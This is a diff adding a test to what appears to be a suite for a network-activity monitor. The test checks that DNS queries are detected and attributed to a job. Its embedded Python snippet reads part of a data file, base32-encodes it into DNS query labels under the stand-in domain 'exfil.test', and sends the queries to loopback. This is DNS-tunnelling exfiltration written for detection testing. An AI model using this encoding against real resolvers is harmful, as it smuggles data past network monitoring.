@@ -266,6 +266,36 @@ for _ in range(200):
         finally:
             cg.remove()
 
+    def test_a3_dns_query_names(self):
+        # Queries whose labels carry base32 of a shard, to port 53 on loopback (UDP:
+        # nothing needs to answer). Unconnected sendto over IPv4, connected over IPv6.
+        code = """
+import base64, socket, struct, sys
+data = open(sys.argv[1], 'rb').read()[:60]
+labels = base64.b32encode(data).decode().rstrip('=').lower()
+labels = [labels[i:i + 48] for i in range(0, len(labels), 48)][:2]
+def query(qid, name):
+    wire = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'
+    return struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack('>HH', 1, 1)
+n1 = '.'.join(labels) + '.exfil.test'
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(query(0x1111, n1), ('127.0.0.1', 53))
+v = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+v.connect(('::1', 53))
+v.send(query(0x2222, 'hub.internal'))
+print(n1)
+"""
+        job, out = run_job(self.d, "ft", code, self.t.shards[0])
+        n1 = out.strip()
+        q4 = self.d.wait_for(lambda evs: [e for e in net_events(evs, job=job, op="dns_query")
+                                          if e["network"]["dns"] == n1] or None, what="the IPv4 query")
+        self.assertEqual((q4[0]["network"]["daddr"], q4[0]["network"]["dport"]), ("127.0.0.1", 53))
+        self.assertFalse(q4[0]["network"].get("dns_truncated", False))
+        q6 = self.d.wait_for(lambda evs: [e for e in net_events(evs, job=job, op="dns_query")
+                                          if e["network"]["dns"] == "hub.internal"] or None, what="the IPv6 query")
+        self.assertEqual(q6[0]["network"]["daddr"], "::1")
+        self.assertEqual(len(net_events(self.d.events(), job=job, op="dns_query")), 2)
+
     def test_unrelated_process_connections_are_not_reported(self):
         p = subprocess.run([PY, "-c", SEND, "127.0.0.1", str(self.denied4.port), self.t.shards[0], "3"],
                            capture_output=True, text=True, timeout=30, check=True)
